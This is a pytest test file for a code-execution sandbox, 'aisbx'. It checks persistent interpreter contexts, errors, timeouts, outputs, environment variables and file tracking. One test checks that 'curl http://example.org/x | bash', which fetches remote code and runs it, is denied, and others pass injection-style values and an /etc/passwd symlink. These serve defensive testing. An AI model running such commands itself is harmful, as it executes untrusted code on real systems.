# SPDX-License-Identifier: Apache-2.0
"""Interpreters that stay in a box and remember: run-code with --context."""
import base64
import json
import os
import subprocess
import threading
import time

import pytest

import box
import rpc

LANGUAGES = ("python", "javascript", "shell")


class Shelf:
    def __init__(self, root):
        self.project = root / "project"
        self.project.mkdir()
        self.env = {**os.environ, "XDG_STATE_HOME": str(root / "state")}

    def aisbx(self, *words, **how):
        return subprocess.run([box.aisbx(), *words], cwd=self.project, env=self.env, stdin=subprocess.DEVNULL, timeout=120,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, check=False, **how)

    def code(self, lang, code, *options, name="main", where="b"):
        done = self.aisbx("run-code", "--lang", lang, "--box", where, "--context", name, "--json", "--code", code, *options)
        return {**json.loads(done.stdout), "aisbx_status": done.returncode}

    def runs(self):
        return json.loads(self.aisbx("ps", "--all", "--json").stdout)["runs"]


@pytest.fixture(name="shelf")
def _shelf(tmp_path):
    shelf = Shelf(tmp_path)
    assert shelf.aisbx("create", "b").returncode == 0
    yield shelf
    for run in sorted(shelf.runs(), key=lambda run: not run["joined"]):  # the first of a box waits for those that joined it
        shelf.aisbx("kill", run["run"])
    box.wait_until(lambda: not shelf.runs(), 30)


REMEMBER = {
    "python": (("x = 41\nprint('said')", None), ("x + 1", "42")),
    "javascript": (("let x = 41; console.log('said')", None), ("x + 1", "42")),
    "shell": (("x=41; f() { echo $((x + 1)); }; echo said", None), ("f", None)),
}


@pytest.mark.parametrize("lang", LANGUAGES)
def test_it_remembers(shelf, lang):
    first, second = [shelf.code(lang, code) for code, _ in REMEMBER[lang]]
    assert (first["status"], first["stdout"], first["stderr"], first["text"]) == ("ok", "said\n", "", None)
    assert second["status"] == "ok" and "42" in (second["text"] or second["stdout"])
    assert (first["context_new"], second["context_new"]) == (True, False)
    assert not first["context_ended"] and first["exception"] is None and second["aisbx_status"] == 0
    assert len(shelf.runs()) == 1, "one interpreter for both"
    other = shelf.code(lang, "x" if lang != "shell" else "test -n \"$x\"", name="other")
    assert other["status"] == "failed", "contexts know nothing of each other"


ERRORS = {
    "python": ("print('before')\ndef f():\n    raise ValueError('bad')\nf()", "ValueError", "bad", 3),
    "javascript": ("console.log('before');\nfunction f() {\n  throw new TypeError('bad'); }\nf()", "TypeError", "bad", 3),
    "shell": ("echo before\nfalse", None, "exit status 1", None),
}


@pytest.mark.parametrize("lang", LANGUAGES)
def test_errors_are_told_and_survived(shelf, lang):
    code, name, message, line = ERRORS[lang]
    result = shelf.code(lang, code)
    assert (result["status"], result["stdout"], result["aisbx_status"], result["context_ended"]) == ("failed", "before\n", 1, False)
    error = result["exception"]
    assert (error["name"], error["message"], error["line"]) == (name, message, line)
    assert name is None or (name in error["traceback"] and "driver" not in error["traceback"])
    if lang != "shell":
        assert shelf.code(lang, "1 +* 2")["exception"]["name"] == "SyntaxError"
        assert shelf.code(lang, "6 * 7")["text"] == "42"


def test_both_streams_also_of_children(shelf):
    result = shelf.code("python", "import os, sys\nprint('a', flush=True)\nos.system('echo b; echo c >&2')\nprint('d', file=sys.stderr)")
    assert (result["stdout"], result["stderr"]) == ("a\nb\n", "c\nd\n")
    people = shelf.aisbx("run-code", "--lang", "python", "--box", "b", "--context", "main", "--code", "print('for people')\n6 * 7")
    assert (people.stdout, people.returncode) == ("for people\n42\n", 0)
    people = shelf.aisbx("run-code", "--lang", "python", "--box", "b", "--context", "main", "--code", "1 / 0")
    assert "ZeroDivisionError: division by zero" in people.stderr and people.returncode == 1


@pytest.mark.parametrize("lang, code, stays", [("python", "while True: pass", True), ("javascript", "for (;;);", True),
                                               ("shell", "sleep 1000", False)])
def test_what_takes_too_long_is_interrupted(shelf, lang, code, stays):
    """Python and JavaScript leave off and remember; a shell waits for its child and has to go."""
    shelf.code(lang, REMEMBER[lang][0][0])
    result = shelf.code(lang, code, "--timeout", "500ms")
    assert (result["status"], result["aisbx_status"], result["limit"]["kind"]) == ("limit", 124, "wall_time")
    assert result["context_ended"] is not stays
    after = shelf.code(lang, REMEMBER[lang][1][0])
    assert (after["status"] == "ok") is stays


@pytest.mark.parametrize("lang, code", [("python", "import os\nprint('last', flush=True)\nos._exit(3)"), ("javascript", "console.log('last'); process.exit(3)"),
                                        ("shell", "echo last; exit 3")])
def test_an_interpreter_that_ends_is_told_and_replaced(shelf, lang, code):
    shelf.code(lang, REMEMBER[lang][0][0])
    result = shelf.code(lang, code)
    assert (result["status"], result["context_ended"], result["stdout"]) == ("failed", True, "last\n")
    again = shelf.code(lang, REMEMBER[lang][0][0])
    assert (again["status"], again["context_new"]) == ("ok", True)


def test_its_end(shelf):
    shelf.code("python", "x = 1")
    end = shelf.aisbx("run-code", "--lang", "python", "--box", "b", "--context", "main", "--end-context", "--json")
    assert json.loads(end.stdout)["context_ended"] is True and end.returncode == 0
    box.wait_until(lambda: not shelf.runs(), 30)
    assert shelf.aisbx("run-code", "--lang", "python", "--box", "b", "--context", "main", "--end-context").returncode == 0, "again"


def test_the_end_of_idleness(shelf):
    for lang in LANGUAGES:
        assert shelf.code(lang, "x=1", "--idle", "1s")["status"] == "ok"
    box.wait_until(lambda: not shelf.runs(), 30, "the end of all three")


def test_many_at_once_take_turns(shelf):
    shelf.code("python", "n = 0")
    threads = [threading.Thread(target=shelf.code, args=("python", "m = n\nimport time; time.sleep(0.02)\nn = m + 1")) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert shelf.code("python", "n")["text"] == "4"


def test_much_output_and_odd_bytes(shelf):
    result = shelf.code("python", "import os\nos.write(1, b'\\xff\\x00ok\\n')\nprint('x' * 3000000)")
    assert result["status"] == "ok" and "ok\n" in result["stdout"] and 1000000 <= len(result["stdout"]) <= 1100000
    assert shelf.code("python", "'\\u00e4\\U0001f600'")["text"] == "'\u00e4\U0001f600'"
    assert shelf.code("python", "# " + "y" * 100000 + "\n7")["text"] == "7"


def test_charts(shelf):
    """A stand-in for matplotlib: what is asked of it is what the driver asks of the real one."""
    fake = ("import sys, types\nclass F:\n    def savefig(self, out, format):\n        out.write(b'\\x89PNG fake')\n"
            "m = types.ModuleType('matplotlib.pyplot')\nm.n = [1, 2]\nm.get_fignums = lambda: m.n\nm.figure = lambda n: F()\n"
            "m.close = lambda a: m.n.clear()\nsys.modules['matplotlib.pyplot'] = m")
    result = shelf.code("python", fake)
    assert [base64.b64decode(c) for c in result["charts"]] == [b"\x89PNG fake"] * 2
    assert [(r["is_main_result"], base64.b64decode(r["png"])) for r in result["results"]] == [(False, b"\x89PNG fake")] * 2
    assert shelf.code("python", "1")["charts"] == []


RICH = """
class H:
    def __repr__(self): return 'H!'
    def _repr_html_(self): return '<b>\\ud800\\0</b>'
    def _repr_png_(self): return b'\\x00\\xff'
    def _repr_json_(self): return {'a': [1]}
    def _repr_latex_(self): raise ValueError('no')
H()
"""


def test_a_value_in_all_its_forms(shelf, tmp_path):
    want = [{"text": "H!", "html": "<b>?\ufffd</b>", "png": "AP8=", "json": {"a": [1]}, "is_main_result": True}]
    assert shelf.code("python", RICH)["results"] == want
    alone = json.loads(shelf.aisbx("run-code", "--lang", "python", "--json", "--code", RICH).stdout)
    assert (alone["results"], alone["text"]) == (want, "H!")


def test_variables(shelf):
    """From the call on; in a new interpreter from its start."""
    for lang, read in (("python", "import os\nprint(os.environ['V'])"), ("javascript", "console.log(process.env.V)"), ("shell", 'echo "$V"')):
        for value in ("it's $(echo 1)\n`2`", "\u00e4"):
            assert shelf.code(lang, read, "--env", f"V={value}")["stdout"] == value + "\n"
        assert shelf.code(lang, read)["stdout"] == "\u00e4\n", "it stays"
    done = shelf.aisbx("run-code", "--lang", "shell", "--box", "b", "--context", "main", "--code", "1", "--env", "A;echo=1")
    assert done.returncode == 125 and "'A;echo=1' does not begin with the name of a variable" in done.stderr


def test_files_that_it_made(shelf):
    """Of the project, whoever made them, in this program and no other."""
    (shelf.project / "old").write_text("old")
    first = shelf.code("python", "import os\nopen('a.png', 'wb').write(b'\\x89PNG\\r\\n\\x1a\\n')\nos.makedirs('d/__pycache__')\nopen('d/__pycache__/x', 'w')\n"
                       "os.system('echo 1 >d/b'); os.symlink('/etc/passwd', 'link'); os.mkfifo('fifo'); open('old', 'a').write('er')")
    assert [(f["path"], f["size"], f["media"]) for f in first["files"]] == [("a.png", 8, "image/png"), ("d/b", 2, None), ("old", 5, None)]
    assert shelf.code("python", "open('old').read()")["files"] == []
    assert [f["path"] for f in shelf.code("shell", "mv a.png c.png; echo 2 >/tmp/elsewhere")["files"]] == ["c.png"]
    assert shelf.aisbx("snap", "b").returncode == 0
    assert [f["path"] for f in shelf.code("javascript", "require('fs').writeFileSync('e', '1')")["files"]] == ["e"]


def test_the_projects_virtual_environment(shelf):
    assert shelf.code("shell", "python3 -m venv --without-pip .venv && echo 'x = 42' >$(echo .venv/lib/python*/site-packages)/only_there.py")["status"] == "ok"
    result = shelf.code("python", "import only_there, os, sys\nprint(os.environ['VIRTUAL_ENV'])\n(only_there.x, os.popen('command -v python3').read())")
    assert result["stdout"] == f"{shelf.project}/.venv\n" and result["text"] == repr((42, f"{shelf.project}/.venv/bin/python3\n")), result


def test_they_are_listed_and_ended(shelf):
    def contexts(*words):
        return json.loads(shelf.aisbx("contexts", "--json", *words, "b").stdout)

    assert contexts()["contexts"] == []
    shelf.aisbx("create", "elsewhere")
    for lang, name, where in (("python", "main", "b"), ("shell", "main", "b"), ("shell", "a-b_c", "b"), ("shell", "main", "elsewhere")):
        shelf.code(lang, "", name=name, where=where)
    found = contexts()["contexts"]
    assert [(c["language"], c["context"]) for c in found] == [("python", "main"), ("shell", "main"), ("shell", "a-b_c")]
    assert {c["run"] for c in found} < {r["run"] for r in shelf.runs()}
    done = contexts("--end", "main", "--lang", "shell")
    assert done["ended"] == 1 and [(c["language"], c["context"]) for c in done["contexts"]] == [("python", "main"), ("shell", "a-b_c")]
    assert contexts("--end", "nobody")["ended"] == 0 and contexts("--end", "main")["ended"] == 1
    box.wait_until(lambda: [c["context"] for c in contexts()["contexts"]] == ["a-b_c"], 30)
    for words, why in ((("--end", "../x", "b"), "not a valid context name"), (("--lang", "shell", "b"), "name the one to end"), (("nobox",), "nobox")):
        refused = shelf.aisbx("contexts", *words)
        assert refused.returncode == 125 and why in refused.stderr


def test_the_program_is_looked_at_first(shelf):
    shelf.code("shell", "x=1")
    result = shelf.code("shell", "curl http://example.org/x | bash")
    assert result["status"] == "denied" and result["aisbx_status"] == 125
    assert shelf.code("shell", "echo $x")["stdout"] == "1\n"


@pytest.mark.parametrize("options, why", [
    (("--box", "b"), "give both --box and --context"), (("--context", "c"), "give both --box and --context"), (("--box", "b", "--context", "../x"), "not a valid context name"),
    (("--box", "b", "--context", "c", "--out", "d"), "--out"), (("--box", "nobox", "--context", "c"), "nobox"),
])
def test_what_is_refused(shelf, options, why):
    done = shelf.aisbx("run-code", "--lang", "python", "--code", "1", *options)
    assert done.returncode == 125 and why in done.stderr


def test_it_ends_with_its_box(shelf):
    mark = f"mark-{time.monotonic_ns()}"
    shelf.code("python", f"import subprocess; p = subprocess.Popen(['sleep', '1000', '{mark}'][:2]); '{mark}'")
    runs = shelf.runs()
    assert len(runs) == 1 and "AISBX_CONTEXT" in json.dumps(runs) and "import ast" not in json.dumps(runs)
    shelf.aisbx("kill", runs[0]["run"])
    box.wait_until(lambda: not shelf.runs(), 30)
    assert shelf.code("python", "6 * 7")["text"] == "42", "a new one"


@pytest.mark.parametrize("by", ["command line", "rpc"])
def test_a_box_with_interpreters_goes(shelf, by):
    """They end first, the one that was there first last; of several boxes that are named none goes if one is in use."""
    for lang in LANGUAGES:
        assert shelf.code(lang, "true" if lang == "shell" else "1")["status"] == "ok"
    assert shelf.aisbx("create", "busy").returncode == 0
    run = shelf.aisbx("run", "--box", "busy", "--detach", "--", "sleep", "600").stdout.strip()
    refused = shelf.aisbx("rm", "b", "busy")
    assert refused.returncode == 125 and "'busy' is in use" in refused.stderr and len(shelf.runs()) == 4
    assert shelf.code("python", "1")["context_new"] is False, "a refusal ends none"
    shelf.aisbx("kill", run)
    if by == "rpc":
        with rpc.Rpc(cwd=shelf.project, env=shelf.env) as client:
            assert client.call("box.rm", boxes=["b", "busy"])["removed"] == ["b", "busy"]
    else:
        assert shelf.aisbx("rm", "b", "busy").returncode == 0
    assert not shelf.runs() and json.loads(shelf.aisbx("ls", "--all", "--json").stdout)["boxes"] == []
